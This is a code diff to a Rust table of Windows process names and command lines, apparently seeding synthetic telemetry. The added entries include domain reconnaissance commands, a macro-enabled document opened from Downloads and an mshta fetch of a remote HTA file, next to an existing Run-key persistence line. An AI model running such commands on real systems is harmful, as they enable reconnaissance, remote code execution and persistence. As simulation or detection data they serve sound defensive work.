@@ -98,6 +98,12 @@ const PROCESSES: &[(&str, &str, &[&str])] = &[
     ("mstsc.exe", r"C:\Windows\System32", &["mstsc.exe /v:10.0.1.20"]),
     ("reg.exe", r"C:\Windows\System32", &["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe"]),
     ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", &["\"msedge.exe\" --single-argument https://portal.example"]),
+    ("net.exe", r"C:\Windows\System32", &["net user /domain", "net group \"Domain Admins\" /domain", "net localgroup administrators"]),
+    ("whoami.exe", r"C:\Windows\System32", &["whoami /all"]),
+    ("nltest.exe", r"C:\Windows\System32", &["nltest /dclist:contoso.com"]),
+    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"OUTLOOK.EXE\" /recycle"]),
+    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"WINWORD.EXE\" /n \"C:\\Users\\ann\\Downloads\\invoice.docm\""]),
+    ("mshta.exe", r"C:\Windows\System32", &["mshta.exe https://files.example/a.hta"]),
 ];
 
 const DOMAINS: &[&str] = &[
